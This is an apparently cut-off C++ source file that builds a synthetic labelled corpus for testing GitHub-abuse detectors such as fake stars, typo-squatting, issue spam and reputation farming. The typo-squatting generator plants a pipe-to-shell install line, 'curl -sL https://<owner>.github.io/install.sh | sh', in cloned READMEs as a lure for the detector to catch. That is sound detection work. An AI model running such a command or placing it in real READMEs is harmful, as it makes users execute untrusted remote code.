#include "ghabuse/eval/corpus.hpp"

#include <algorithm>
#include <array>
#include <cctype>
#include <cstdio>
#include <cmath>
#include <fstream>
#include <set>
#include <sstream>

#include "ghabuse/error.hpp"
#include "ghabuse/eval/synth.hpp"
#include "ghabuse/ingest/store.hpp"
#include "ghabuse/snapshot_json.hpp"
#include "ghabuse/textkit/extract.hpp"
#include "ghabuse/textkit/similarity.hpp"
#include "ghabuse/textkit/tokenize.hpp"

namespace ghabuse::eval {
namespace {

using nlohmann::json;
using nlohmann::ordered_json;

constexpr UnixSeconds kBase = 1'700'000'000;
constexpr UnixSeconds kDay = kSecondsPerDay;
constexpr UnixSeconds kSnapshotAt = kBase + 200 * kDay;

struct Built {
    Snapshot primary;
    std::vector<Snapshot> context;
    bool label = false;
    std::optional<std::string> near_miss;
};

/// Largest raw count whose normalized popularity stays at or below `p`.
std::int64_t max_count_at_or_below(double p, std::int64_t cap) {
    std::int64_t n = static_cast<std::int64_t>(std::floor(std::pow(10.0, p * std::log10(1.0 + cap)) - 1.0));
    n = std::max<std::int64_t>(n, 0);
    while (n > 0 && normalized_popularity(n, cap) > p) --n;
    while (normalized_popularity(n + 1, cap) <= p && n < cap) ++n;
    return n;
}

/// Smallest raw count whose normalized popularity reaches `p`.
std::int64_t min_count_at_or_above(double p, std::int64_t cap) {
    std::int64_t n = std::max<std::int64_t>(0, static_cast<std::int64_t>(std::ceil(std::pow(10.0, p * std::log10(1.0 + cap)) - 1.0)));
    while (n > 0 && normalized_popularity(n - 1, cap) >= p) --n;
    while (normalized_popularity(n, cap) < p) ++n;
    return n;
}

class Factory {
public:
    Factory(const ThresholdConfig& cfg, std::vector<detectors::PopularReference> refs)
        : cfg_(cfg), refs_(std::move(refs)) {}

    Built build(Detector d, bool positive, std::int64_t variant, Rng& rng) {
        switch (d) {
            case Detector::fake_stars: return fake_stars(positive, variant, rng);
            case Detector::automatic_updates: return auto_updates(positive, variant, rng);
            case Detector::keyword_stuffing: return keyword_stuffing(positive, variant, rng);
            case Detector::typo_squatting: return typo_squatting(positive, variant, rng);
            case Detector::spoofed_contributor: return spoofed(positive, variant, rng);
            case Detector::issue_spam: return issue_spam(positive, variant, rng);
            case Detector::reputation_farming: return farming(positive, variant, rng);
            case Detector::fake_stats: return fake_stats(positive, variant, rng);
        }
        throw InvalidInput("unknown detector");
    }

private:
    std::string unique_login(Rng& rng) {
        for (;;) {
            auto s = random_login(rng);
            if (logins_.insert(s).second) return s;
        }
    }

    std::string unique_repo(Rng& rng, const std::string& owner) {
        for (;;) {
            auto s = owner + "/" + random_repo_name(rng);
            if (repos_.insert(s).second) return s;
        }
    }

    std::vector<std::string> pick_topics(Rng& rng, std::int64_t n) {
        std::vector<std::string> out;
        while (static_cast<std::int64_t>(out.size()) < n) {
            std::string t(rng.pick(topic_words()));
            if (std::find(out.begin(), out.end(), t) == out.end()) out.push_back(t);
        }
        return out;
    }

    std::vector<CommitRecord> human_commits(Rng& rng, const std::string& owner, std::int64_t n, UnixSeconds from,
                                            UnixSeconds to) {
        std::vector<CommitRecord> out;
        std::vector<std::string> contributors{owner};
        for (int i = 0; i < 3; ++i) contributors.push_back(random_login(rng));
        for (std::int64_t i = 0; i < n; ++i) {
            CommitRecord c;
            c.sha = random_sha(rng);
            c.author_login = rng.pick(contributors);
            c.timestamp = rng.range(from, to);
            c.lines_added = rng.range(4, 300);
            c.lines_deleted = rng.range(1, 120);
            c.touched_paths = {"src/" + std::string(rng.pick(topic_words())) + ".c"};
            out.push_back(std::move(c));
        }
        sort_commits(out);
        return out;
    }

    static void sort_commits(std::vector<CommitRecord>& commits) {
        std::sort(commits.begin(), commits.end(),
                  [](const auto& a, const auto& b) { return std::tie(a.timestamp, a.sha) < std::tie(b.timestamp, b.sha); });
    }

    RepoSnapshot base_repo(Rng& rng, std::int64_t stars) {
        RepoSnapshot r;
        const auto owner = unique_login(rng);
        r.full_name = unique_repo(rng, owner);
        const auto topics = pick_topics(rng, rng.range(3, 6));
        r.description = "A " + topics[0] + " toolkit for " + topics[1];
        r.readme = synth_readme(rng, std::string(r.name()), topics);
        const auto nk = rng.range(1, std::min<std::int64_t>(3, static_cast<std::int64_t>(topics.size())));
        r.keywords.assign(topics.begin(), topics.begin() + nk);
        r.star_count = stars;
        r.fork_count = stars / rng.range(4, 20);
        r.commits = human_commits(rng, owner, rng.range(5, 40), kBase, kBase + 150 * kDay);
        const auto n_issues = rng.range(0, 4);
        for (std::int64_t i = 1; i <= n_issues; ++i) {
            IssueRecord is;
            is.number = i;
            is.author_login = random_login(rng);
            is.body = benign_issue(rng, TextPool::evaluation);
            is.title = title_of(is.body);
            is.created_at = kBase + rng.range(0, 150) * kDay;
            if (rng.chance(0.5)) {
                is.state = IssueState::closed;
                is.closed_at = is.created_at + rng.range(1, 20) * kDay;
            }
            r.issues.push_back(std::move(is));
        }
        const auto shown = std::min<std::int64_t>(stars, 8);
        for (std::int64_t i = 0; i < shown; ++i)
            r.star_events.push_back({random_login(rng), kBase + rng.range(0, 190) * kDay});
        sort_stars(r);
        r.snapshot_at = kSnapshotAt;
        return r;
    }

    static void sort_stars(RepoSnapshot& r) {
        std::sort(r.star_events.begin(), r.star_events.end(), [](const auto& a, const auto& b) {
            return std::tie(a.starred_at, a.user_login) < std::tie(b.starred_at, b.user_login);
        });
    }

    static std::string title_of(const std::string& text) {
        std::istringstream in(text);
        std::string word, out;
        for (int i = 0; i < 6 && in >> word; ++i) out += (out.empty() ? "" : " ") + word;
        return out;
    }

    static void sort_activity(UserSnapshot& u) {
        std::stable_sort(u.activity.begin(), u.activity.end(),
                         [](const auto& a, const auto& b) { return a.timestamp < b.timestamp; });
    }

    UserSnapshot base_user(Rng& rng, const std::string& login) {
        UserSnapshot u;
        u.login = login;
        u.follower_count = rng.range(0, 40);
        u.snapshot_at = kSnapshotAt;
        return u;
    }

    std::vector<std::string> other_repos(Rng& rng, std::int64_t n) {
        std::set<std::string> out;
        while (static_cast<std::int64_t>(out.size()) < n) out.insert(random_login(rng) + "/" + random_repo_name(rng));
        return {out.begin(), out.end()};
    }

    // Stargazer kinds for fake stars.
    enum class Gazer { fake, genuine, many_stars, slightly_active };

    UserSnapshot stargazer(Rng& rng, const std::string& repo, UnixSeconds t_s, Gazer kind) {
        UserSnapshot u = base_user(rng, unique_login(rng));
        const auto window_end = t_s + cfg_.window_fake_stars;
        std::int64_t starred = 0, in_window = 0, outside = 0;
        switch (kind) {
            case Gazer::fake:
                starred = rng.range(std::min<std::int64_t>(1, cfg_.x1), cfg_.x1);
                in_window = rng.range(0, cfg_.epsilon);
                outside = rng.range(0, 2);
                u.follower_count = rng.range(0, 2);
                break;
            case Gazer::genuine:
                starred = rng.range(cfg_.x1 + 3, cfg_.x1 + 300);
                in_window = rng.range(cfg_.epsilon + 2, cfg_.epsilon + 40);
                outside = rng.range(5, 60);
                break;
            case Gazer::many_stars:
                starred = cfg_.x1 + 1;
                in_window = rng.range(0, cfg_.epsilon);
                outside = rng.range(0, 2);
                break;
            case Gazer::slightly_active:
                starred = rng.range(std::min<std::int64_t>(1, cfg_.x1), cfg_.x1);
                in_window = cfg_.epsilon + 1;
                outside = rng.range(0, 2);
                break;
        }
        starred = std::max<std::int64_t>(starred, 1);
        u.starred_repos = other_repos(rng, starred - 1);
        u.starred_repos.push_back(repo);
        const auto targets = other_repos(rng, 3);
        for (std::int64_t i = 0; i < in_window; ++i)
            u.activity.push_back({ActivityKind::commit, rng.range(t_s, window_end - 1), rng.pick(targets)});
        for (std::int64_t i = 0; i < outside; ++i) {
            const bool before = rng.chance(0.5);
            const auto ts = before ? rng.range(kBase - 300 * kDay, t_s - 1) : rng.range(window_end, kSnapshotAt);
            u.activity.push_back({ActivityKind::issue_comment, ts, rng.pick(targets) + "#" + std::to_string(rng.range(1, 99))});
        }
        sort_activity(u);
        return u;
    }

    Built fake_stars(bool positive, std::int64_t variant, Rng& rng) {
        RepoSnapshot repo = base_repo(rng, 0);
        repo.star_events.clear();
        const auto n = rng.range(6, 12);
        const auto majority = static_cast<std::int64_t>(std::ceil(0.6 * static_cast<double>(n)));
        Built b;
        std::int64_t suspicious = 0;
        Gazer kind = Gazer::fake;
        if (positive) {
            suspicious = rng.range(majority, n);
        } else if (variant == 1) {
            suspicious = rng.range(majority, n);
            kind = Gazer::many_stars;
            b.near_miss = "starred_repo_count";
        } else if (variant == 2) {
            suspicious = rng.range(majority, n);
            kind = Gazer::slightly_active;
            b.near_miss = "activity_in_window";
        } else {
            suspicious = rng.range(0, static_cast<std::int64_t>(std::floor(0.3 * static_cast<double>(n))));
        }
        std::vector<bool> is_suspicious(static_cast<std::size_t>(n), false);
        for (std::int64_t i = 0; i < suspicious; ++i) is_suspicious[static_cast<std::size_t>(i)] = true;
        rng.shuffle(is_suspicious);
        const auto campaign = kBase + rng.range(20, 100) * kDay;
        for (std::int64_t i = 0; i < n; ++i) {
            const bool sus = is_suspicious[static_cast<std::size_t>(i)];
            const UnixSeconds t_s = sus ? campaign + rng.range(0, 36 * 3600) : kBase + rng.range(0, 150 * kDay);
            auto u = stargazer(rng, repo.full_name, t_s, sus ? kind : Gazer::genuine);
            repo.star_events.push_back({u.login, t_s});
            b.context.emplace_back(std::move(u));
        }
        repo.star_count = n;
        sort_stars(repo);
        b.label = positive;
        b.primary = std::move(repo);
        return b;
    }

    Built auto_updates(bool positive, std::int64_t variant, Rng& rng) {
        RepoSnapshot repo = base_repo(rng, rng.range(0, 300));
        Built b;
        const auto owner = std::string(repo.owner());
        std::int64_t burst = 0;
        std::int64_t lines_lo = 1, lines_hi = 1;
        const auto y_floor = static_cast<std::int64_t>(std::floor(cfg_.y));
        if (positive) {
            burst = rng.range(cfg_.x2, cfg_.x2 + 80);
            lines_lo = std::min<std::int64_t>(1, y_floor);
            lines_hi = std::max<std::int64_t>(lines_lo, std::min<std::int64_t>(2, y_floor));
        } else if (variant == 1) {
            burst = std::max<std::int64_t>(cfg_.x2 - 1, 0);
            lines_lo = std::min<std::int64_t>(1, y_floor);
            lines_hi = std::max<std::int64_t>(lines_lo, std::min<std::int64_t>(2, y_floor));
            b.near_miss = "commit_count";
        } else if (variant == 2) {
            burst = rng.range(cfg_.x2 + 5, cfg_.x2 + 60);
            lines_lo = lines_hi = y_floor + 1;
            b.near_miss = "mean_modified_loc";
        } else {
            repo.commits = human_commits(rng, owner, rng.range(20, 120), kBase, kBase + 150 * kDay);
        }
        const auto start = kBase + 160 * kDay;
        const auto span = std::min<UnixSeconds>(cfg_.window_auto_updates - 1, 6 * kDay);
        const auto file = rng.chance(0.5) ? "logs/update.log" : "data/stats.json";
        for (std::int64_t i = 0; i < burst; ++i) {
            CommitRecord c;
            c.sha = random_sha(rng);
            c.author_login = owner;
            c.timestamp = start + (burst > 1 ? span * i / (burst - 1) : 0);
            c.lines_added = rng.range(lines_lo, lines_hi);
            c.lines_deleted = 0;
            c.touched_paths = {file};
            repo.commits.push_back(std::move(c));
        }
        sort_commits(repo.commits);
        b.label = positive;
        b.primary = std::move(repo);
        return b;
    }

    Built keyword_stuffing(bool positive, std::int64_t variant, Rng& rng) {
        RepoSnapshot repo = base_repo(rng, rng.range(0, 2000));
        Built b;
        std::vector<std::string> topics;
        for (const auto& t : textkit::tokenize(repo.readme)) {
            const bool is_topic = std::find(topic_words().begin(), topic_words().end(), t) != topic_words().end();
            if (is_topic && std::find(topics.begin(), topics.end(), t) == topics.end()) topics.push_back(t);
        }
        std::int64_t relevant = 0, stuffed = 0;
        const auto trending = static_cast<std::int64_t>(trending_keywords().size());
        if (positive) {
            relevant = rng.range(0, 4);
            stuffed = std::min(trending, rng.range(cfg_.x3, cfg_.x3 + 10));
        } else if (variant == 1 && cfg_.x3 >= 1) {
            relevant = rng.range(1, 4);
            stuffed = cfg_.x3 - 1;
            b.near_miss = "low_relevance_count";
        } else {
            relevant = rng.range(2, 6);
            stuffed = rng.range(0, std::max<std::int64_t>(0, std::min<std::int64_t>(2, cfg_.x3 - 1)));
        }
        relevant = std::min<std::int64_t>(relevant, static_cast<std::int64_t>(topics.size()));
        rng.shuffle(topics);
        std::vector<std::string> trend(trending_keywords().begin(), trending_keywords().end());
        rng.shuffle(trend);
        repo.keywords.clear();
        for (std::int64_t i = 0; i < relevant; ++i) repo.keywords.push_back(topics[static_cast<std::size_t>(i)]);
        for (std::int64_t i = 0; i < stuffed; ++i) repo.keywords.push_back(trend[static_cast<std::size_t>(i)]);
        rng.shuffle(repo.keywords);
        b.label = positive;
        b.primary = std::move(repo);
        return b;
    }

    std::string typo_of(Rng& rng, const std::string& name) {
        for (int attempt = 0; attempt < 100; ++attempt) {
            std::string s = name;
            const auto i = static_cast<std::size_t>(rng.range(1, static_cast<std::int64_t>(s.size()) - 2));
            switch (rng.range(0, 4)) {
                case 0: std::swap(s[i], s[i + 1]); break;
                case 1: s.erase(i, 1); break;
                case 2: s.insert(i, 1, s[i]); break;
                case 3: s[i] = static_cast<char>('a' + rng.range(0, 25)); break;
                default: s.insert(i, 1, '-'); break;
            }
            if (s != name && textkit::name_similarity(s, name) >= cfg_.theta_t1 + 1e-9) return s;
        }
        return name + "s";
    }

    Built typo_squatting(bool positive, std::int64_t variant, Rng& rng) {
        std::vector<const detectors::PopularReference*> usable;
        for (const auto& r : refs_) {
            const auto name = r.full_name.substr(r.full_name.find('/') + 1);
            if (name.size() >= 6) usable.push_back(&r);
        }
        const auto& ref = *rng.pick(usable);
        const auto ref_name = ref.full_name.substr(ref.full_name.find('/') + 1);
        RepoSnapshot repo = base_repo(rng, 0);
        Built b;
        const auto owner = std::string(repo.owner());
        repos_.erase(repo.full_name);
        for (;;) {
            repo.full_name = owner + "/" + typo_of(rng, ref_name);
            if (repos_.insert(repo.full_name).second) break;
        }
        const double ref_pop = repo_popularity(ref.star_count);
        // Largest candidate star count that keeps the popularity ratio at or above phi_p1.
        std::int64_t low_stars = 0;
        while (low_stars < ref.star_count &&
               detectors::popularity_ratio(repo_popularity(low_stars + 1), ref_pop) >= cfg_.phi_p1)
            ++low_stars;
        auto cloned_readme = [&] {
            std::string s = ref.readme;
            if (rng.chance(0.5)) s += "\n## Quick install\n\n```\ncurl -sL https://" + owner + ".github.io/install.sh | sh\n```\n";
            return s;
        };
        if (positive) {
            repo.readme = cloned_readme();
            repo.star_count = rng.range(0, low_stars);
        } else if (variant == 1) {
            for (;;) {
                repo.readme = synth_readme(rng, std::string(repo.name()), pick_topics(rng, rng.range(3, 6)));
                if (textkit::readme_similarity(repo.readme, ref.readme) < cfg_.theta_t2 - 0.05) break;
            }
            repo.star_count = rng.range(0, low_stars);
            b.near_miss = "readme_similarity";
        } else if (variant == 2) {
            repo.readme = cloned_readme();
            repo.star_count = rng.range(low_stars + 1, std::max(low_stars + 1, ref.star_count));
            b.near_miss = "popularity_ratio";
        } else {
            // An unrelated project whose name is not close to any reference.
            for (;;) {
                repo.full_name = owner + "/" + random_repo_name(rng);
                bool close = false;
                for (const auto& r : refs_)
                    close = close || textkit::name_similarity(std::string(repo.name()), r.full_name.substr(r.full_name.find('/') + 1)) >=
                                         cfg_.theta_t1;
                if (!close && repos_.insert(repo.full_name).second) break;
            }
            repo.star_count = rng.range(0, 500);
        }
        repo.star_events.clear();
        b.label = positive;
        b.primary = std::move(repo);
        return b;
    }

    Built spoofed(bool positive, std::int64_t variant, Rng& rng) {
        const auto max_obscure = max_count_at_or_below(cfg_.phi_p2, kRepoPopularityCap);
        const auto min_famous = min_count_at_or_above(cfg_.phi_p3, kUserPopularityCap);
        std::int64_t stars = rng.range(0, max_obscure);
        std::int64_t followers = rng.range(min_famous, std::max(min_famous, std::int64_t{60000}));
        std::int64_t attributed = rng.range(std::min<std::int64_t>(1, cfg_.x4), cfg_.x4);
        Built b;
        if (!positive) {
            switch (variant) {
                case 1:
                    attributed = cfg_.x4 + 1;
                    b.near_miss = "attributed_commits";
                    break;
                case 2:
                    stars = rng.range(max_obscure + 1, std::max(max_obscure + 1, max_obscure * 20));
                    b.near_miss = "repo_popularity";
                    break;
                case 3:
                    followers = rng.range(0, std::max<std::int64_t>(0, min_famous - 1));
                    b.near_miss = "suspect_popularity";
                    break;
                default:
                    attributed = rng.range(cfg_.x4 + 5, cfg_.x4 + 40);
                    stars = rng.range(1000, 50000);
                    break;
            }
        }
        attributed = std::max<std::int64_t>(attributed, 1);
        RepoSnapshot repo = base_repo(rng, stars);
        UserSnapshot suspect = base_user(rng, unique_login(rng));
        suspect.follower_count = followers;
        for (std::int64_t i = 0; i < 10; ++i)
            suspect.owned_repos.push_back({suspect.login + "/" + random_repo_name(rng), rng.range(0, 5000)});
        std::sort(suspect.owned_repos.begin(), suspect.owned_repos.end(),
                  [](auto& a, auto& c) { return a.full_name < c.full_name; });
        suspect.owned_repos.erase(std::unique(suspect.owned_repos.begin(), suspect.owned_repos.end(),
                                              [](auto& a, auto& c) { return a.full_name == c.full_name; }),
                                  suspect.owned_repos.end());
        for (std::int64_t i = 0; i < attributed; ++i) {
            CommitRecord c;
            c.sha = random_sha(rng);
            c.timestamp = kBase + rng.range(0, 150 * kDay);
            c.lines_added = rng.range(1, 200);
            c.lines_deleted = rng.range(0, 50);
            c.touched_paths = {"README.md"};
            if (rng.chance(0.7)) {
                c.author_login = std::string(repo.owner());
                c.co_authors = {suspect.login};
            } else {
                c.author_login = suspect.login;
            }
            repo.commits.push_back(std::move(c));
        }
        sort_commits(repo.commits);
        b.label = positive;
        b.primary = std::move(repo);
        b.context.emplace_back(std::move(suspect));
        return b;
    }

    Built issue_spam(bool positive, std::int64_t variant, Rng& rng) {
        RepoSnapshot repo = base_repo(rng, rng.range(0, 3000));
        repo.issues.clear();
        Built b;
        std::vector<std::string> texts;
        const auto benign = rng.range(2, 6);
        for (std::int64_t i = 0; i < benign; ++i) texts.push_back(benign_issue(rng, TextPool::evaluation));
        if (positive) {
            const auto spam = rng.range(1, 2);
            for (std::int64_t i = 0; i < spam; ++i) texts.push_back(spam_issue(rng, TextPool::evaluation));
        } else if (variant == 2) {
            texts.push_back(spam_issue_plain(rng));
        } else if (variant == 1) {
            // A benign report that still passes the link-or-command gate.
            for (;;) {
                auto text = benign_issue(rng, TextPool::evaluation);
                if (textkit::has_links(text) || textkit::has_commands(text)) {
                    texts.push_back(std::move(text));
                    break;
                }
            }
            b.near_miss = "spam_probability";
        }
        rng.shuffle(texts);
        std::int64_t number = 1;
        for (const auto& text : texts) {
            IssueRecord is;
            is.number = number++;
            is.author_login = random_login(rng);
            is.title = title_of(text);
            is.body = text;
            is.created_at = kBase + rng.range(0, 150) * kDay;
            if (rng.chance(0.3)) {
                is.state = IssueState::closed;
                is.closed_at = is.created_at + rng.range(1, 20) * kDay;
            }
            repo.issues.push_back(std::move(is));
        }
        b.label = positive;
        b.primary = std::move(repo);
        return b;
    }

    Built farming(bool positive, std::int64_t variant, Rng& rng) {
        const auto needed = cfg_.farming_strict ? std::int64_t{1} : cfg_.farming_min_events;
        Built b;
        std::int64_t stale = 0;
        if (positive) {
            stale = rng.range(needed, needed + 8);
        } else if (variant == 1 && needed >= 2) {
            stale = needed - 1;
            b.near_miss = "stale_interaction_count";
        }
        UserSnapshot u = base_user(rng, unique_login(rng));
        struct Closed {
            std::string target;
            UnixSeconds closed;
        };
        std::vector<Closed> closed;
        std::vector<std::string> open;
        const auto n_repos = rng.range(1, 3);
        for (std::int64_t r = 0; r < n_repos; ++r) {
            RepoSnapshot repo = base_repo(rng, rng.range(50, 20000));
            repo.issues.clear();
            const auto n = rng.range(4, 10);
            for (std::int64_t i = 1; i <= n; ++i) {
                const auto created = kBase + rng.range(0, 60) * kDay;
                const bool is_pr = rng.chance(0.4);
                const bool is_closed = rng.chance(0.7);
                const auto closed_at = created + rng.range(1, 40) * kDay;
                const auto target = repo.full_name + "#" + std::to_string(i);
                if (is_pr) {
                    PullRequestRecord pr;
                    pr.number = i;
                    pr.author_login = random_login(rng);
                    pr.title = "Improve " + std::string(rng.pick(topic_words()));
                    pr.created_at = created;
                    if (is_closed) {
                        pr.state = rng.chance(0.6) ? PullRequestState::merged : PullRequestState::closed;
                        pr.merged_or_closed_at = closed_at;
                    }
                    repo.pull_requests.push_back(std::move(pr));
                } else {
                    IssueRecord is;
                    is.number = i;
                    is.author_login = random_login(rng);
                    is.body = benign_issue(rng, TextPool::evaluation);
                    is.title = title_of(is.body);
                    is.created_at = created;
                    if (is_closed) {
                        is.state = IssueState::closed;
                        is.closed_at = closed_at;
                    }
                    repo.issues.push_back(std::move(is));
                }
                if (is_closed) closed.push_back({target, closed_at});
                else open.push_back(target);
            }
            b.context.emplace_back(std::move(repo));
        }
        if (closed.empty()) {
            // Guarantee at least one closed item to interact with.
            auto& repo = std::get<RepoSnapshot>(b.context.front());
            IssueRecord is;
            is.number = 100;
            is.author_login = random_login(rng);
            is.title = "Old report";
            is.created_at = kBase;
            is.state = IssueState::closed;
            is.closed_at = kBase + 5 * kDay;
            closed.push_back({repo.full_name + "#100", *is.closed_at});
            repo.issues.push_back(std::move(is));
        }
        static constexpr std::array<ActivityKind, 3> kinds = {ActivityKind::issue_comment, ActivityKind::pr_comment,
                                                              ActivityKind::pr_review};
        auto interact = [&](const std::string& target, UnixSeconds ts) {
            u.activity.push_back({rng.pick(std::span<const ActivityKind>(kinds)), ts, target});
        };
        const auto span = cfg_.window_rep_farming - cfg_.delta_t;
        for (std::int64_t i = 0; i < stale; ++i) {
            const auto& c = rng.pick(closed);
            interact(c.target, c.closed + cfg_.delta_t + rng.range(0, std::max<UnixSeconds>(span - 1, 0)));
        }
        // Interactions that do not count: before closure, within delta_t, after the window, or on open items.
        const auto benign = rng.range(2, 10);
        for (std::int64_t i = 0; i < benign; ++i) {
            const auto& c = rng.pick(closed);
            switch (rng.range(0, 3)) {
                case 0: interact(c.target, c.closed - rng.range(1, 10 * kDay)); break;
                case 1:
                    if (cfg_.delta_t > 0) interact(c.target, c.closed + rng.range(0, cfg_.delta_t - 1));
                    break;
                case 2: {
                    const auto late = c.closed + cfg_.window_rep_farming + rng.range(0, 5 * kDay);
                    if (late <= kSnapshotAt) interact(c.target, late);
                    break;
                }
                default:
                    if (!open.empty()) interact(rng.pick(open), kBase + rng.range(0, 150 * kDay));
                    break;
            }
        }
        const auto chores = rng.range(0, 15);
        for (std::int64_t i = 0; i < chores; ++i)
            u.activity.push_back({ActivityKind::commit, kBase + rng.range(0, 190 * kDay), u.login + "/dotfiles"});
        sort_activity(u);
        b.label = positive;
        b.primary = std::move(u);
        return b;
    }

    std::string widget(Rng& rng, const std::string& account) {
        switch (rng.range(0, 4)) {
            case 0: return "https://github-readme-stats.vercel.app/api?username=" + account + "&show_icons=true&theme=radical";
            case 1: return "https://github-readme-streak-stats.herokuapp.com/?user=" + account;
            case 2: return "https://github-profile-trophy.vercel.app/?username=" + account;
            case 3: return "https://ghchart.rshah.org/" + account;
            default: return "https://komarev.com/ghpvc/?username=" + account;
        }
    }

    Built fake_stats(bool positive, std::int64_t variant, Rng& rng) {
        UserSnapshot u = base_user(rng, unique_login(rng));
        std::int64_t total = 0;
        const auto n = rng.range(1, 12);
        std::set<std::string> names;
        while (static_cast<std::int64_t>(names.size()) < n) names.insert(u.login + "/" + random_repo_name(rng));
        for (const auto& name : names) {
            const auto stars = rng.range(0, 400);
            u.owned_repos.push_back({name, stars});
            total += stars;
        }
        Built b;
        bool foreign = false;
        std::optional<std::int64_t> claimed;
        if (positive) {
            const auto mode = rng.range(0, 2);
            foreign = mode != 1;
            if (mode != 0) {
                const auto gap = rng.range(cfg_.x5, cfg_.x5 + 5000);
                claimed = rng.chance(0.8) || total < gap ? total + gap : total - gap;
            }
        } else if (variant == 1 && cfg_.x5 >= 1) {
            const auto gap = cfg_.x5 - 1;
            claimed = rng.chance(0.5) || total < gap ? total + gap : total - gap;
            b.near_miss = "claimed_star_gap";
        } else if (rng.chance(0.5)) {
            claimed = total;
        }
        u.claimed_star_count = claimed;
        std::string readme = "### Hi there, I am " + u.login + "\n\n";
        const auto own_widgets = rng.range(foreign ? 0 : 1, 3);
        for (std::int64_t i = 0; i < own_widgets; ++i) {
            std::string account = u.login;
            if (rng.chance(0.3)) for (auto& ch : account) ch = static_cast<char>(std::toupper(static_cast<unsigned char>(ch)));
            const auto url = widget(rng, account);
            readme += "![stats](" + url + ")\n";
            u.stat_widget_urls.push_back(url);
        }
        if (foreign) {
            const auto url = widget(rng, random_login(rng) + "-dev");
            readme += "![stats](" + url + ")\n";
            u.stat_widget_urls.push_back(url);
        }
        if (claimed) readme += "\nI have earned " + std::to_string(*claimed) + " stars across my projects.\n";
        if (rng.chance(0.5)) readme += "\nInspired by https://github.com/" + random_login(rng) + "\n";
        std::sort(u.stat_widget_urls.begin(), u.stat_widget_urls.end());
        u.stat_widget_urls.erase(std::unique(u.stat_widget_urls.begin(), u.stat_widget_urls.end()), u.stat_widget_urls.end());
        u.profile_readme = readme;
        b.label = positive;
        b.primary = std::move(u);
        return b;
    }

    ThresholdConfig cfg_;
    std::vector<detectors::PopularReference> refs_;
    std::set<std::string> logins_;
    std::set<std::string> repos_;
};

constexpr std::array<std::string_view, 44> kReferenceNames = {
    "psf/requests",         "numpy/numpy",            "pandas-dev/pandas",     "pallets/flask",
    "django/django",        "expressjs/express",      "lodash/lodash",         "facebook/react",
    "tensorflow/tensorflow", "pytorch/pytorch",       "kubernetes/kubernetes", "axios/axios",
    "moment/moment",        "webpack/webpack",        "babel/babel",           "eslint/eslint",
    "prettier/prettier",    "sveltejs/svelte",        "vercel/next.js",        "nodejs/node",
    "denoland/deno",        "microsoft/vscode",       "electron/electron",     "ansible/ansible",
    "scikit-learn/scikit-learn", "matplotlib/matplotlib", "tqdm/tqdm",        "psf/black",
    "pytest-dev/pytest",    "openssl/openssl",        "curl/curl",             "redis/redis",
    "grafana/grafana",      "prometheus/prometheus",  "hashicorp/terraform",   "docker/compose",
    "jquery/jquery",        "chalk/chalk",            "yargs/yargs",           "urllib3/urllib3",
    "boto/boto3",           "tiangolo/fastapi",       "sqlalchemy/sqlalchemy", "huggingface/transformers",
};

std::vector<detectors::PopularReference> make_references(std::uint64_t seed) {
    std::vector<detectors::PopularReference> out;
    for (std::size_t i = 0; i < kReferenceNames.size(); ++i) {
        Rng rng(mix_seed(seed, 0x5EF, i));
        detectors::PopularReference r;
        r.full_name = std::string(kReferenceNames[i]);
        std::vector<std::string> topics;
        while (topics.size() < 5) {
            std::string t(rng.pick(topic_words()));
            if (std::find(topics.begin(), topics.end(), t) == topics.end()) topics.push_back(t);
        }
        r.readme = synth_readme(rng, r.full_name.substr(r.full_name.find('/') + 1), topics);
        r.star_count = rng.range(5000, 200000);
        out.push_back(std::move(r));
    }
    return out;
}

void write_lines(const std::filesystem::path& path, const std::vector<ordered_json>& rows) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    if (!out) throw InvalidInput("cannot write " + path.string());
    for (const auto& r : rows) out << r.dump() << "\n";
}

std::vector<json> read_lines(const std::filesystem::path& path) {
    std::ifstream in(path, std::ios::binary);
    if (!in) throw NotFound("cannot read " + path.string());
    std::vector<json> out;
    std::string line;
    std::size_t n = 0;
    while (std::getline(in, line)) {
        ++n;
        if (line.find_first_not_of(" \t\r") == std::string::npos) continue;
        try {
            out.push_back(json::parse(line));
        } catch (const json::parse_error& e) {
            throw SchemaError(path.string() + ":" + std::to_string(n) + ": " + e.what());
        }
    }
    return out;
}

}  // namespace

SubjectKind subject_kind_of(Detector d) {
    return d == Detector::reputation_farming || d == Detector::fake_stats ? SubjectKind::user : SubjectKind::repo;
}

ordered_json to_json(const LabeledInstance& inst) {
    ordered_json j;
    j["instance_id"] = inst.instance_id;
    j["subcategory"] = to_string(inst.subcategory);
    j["subject_kind"] = to_string(inst.subject_kind);
    j["snapshot_path"] = inst.snapshot_path;
    j["label"] = inst.label;
    j["context_paths"] = inst.context_paths;
    j["near_miss_clause"] = inst.near_miss_clause ? ordered_json(*inst.near_miss_clause) : ordered_json(nullptr);
    return j;
}

LabeledInstance instance_from_json(const json& j) {
    static const std::set<std::string> known = {"instance_id", "subcategory", "subject_kind", "snapshot_path",
                                                "label", "context_paths", "near_miss_clause"};
    if (!j.is_object()) throw SchemaError("manifest row must be an object");
    for (const auto& [k, v] : j.items())
        if (!known.count(k)) throw SchemaError("manifest row: unknown field '" + k + "'");
    LabeledInstance inst;
    try {
        inst.instance_id = j.at("instance_id").get<std::string>();
        inst.subcategory = parse_detector(j.at("subcategory").get<std::string>());
        inst.subject_kind = parse_subject_kind(j.at("subject_kind").get<std::string>());
        inst.snapshot_path = j.at("snapshot_path").get<std::string>();
        inst.label = j.at("label").get<bool>();
        if (j.contains("context_paths")) inst.context_paths = j.at("context_paths").get<std::vector<std::string>>();
        if (j.contains("near_miss_clause") && !j.at("near_miss_clause").is_null())
            inst.near_miss_clause = j.at("near_miss_clause").get<std::string>();
    } catch (const json::exception& e) {
        throw SchemaError(std::string("manifest row: ") + e.what());
    }
    if (inst.instance_id.empty()) throw InvalidInput("manifest row: empty instance_id");
    if (inst.subject_kind != subject_kind_of(inst.subcategory))
        throw InvalidInput(inst.instance_id + ": subject_kind does not match subcategory");
    return inst;
}

std::vector<LabeledInstance> read_manifest(const std::filesystem::path& path) {
    std::vector<LabeledInstance> out;
    std::set<std::string> ids;
    for (const auto& j : read_lines(path)) {
        auto inst = instance_from_json(j);
        if (!ids.insert(inst.instance_id).second) throw InvalidInput("duplicate instance_id " + inst.instance_id);
        out.push_back(std::move(inst));
    }
    return out;
}

void write_manifest(const std::filesystem::path& path, const std::vector<LabeledInstance>& instances) {
    std::vector<ordered_json> rows;
    for (const auto& i : instances) rows.push_back(to_json(i));
    write_lines(path, rows);
}

CorpusCounts default_counts() {
    CorpusCounts c{};
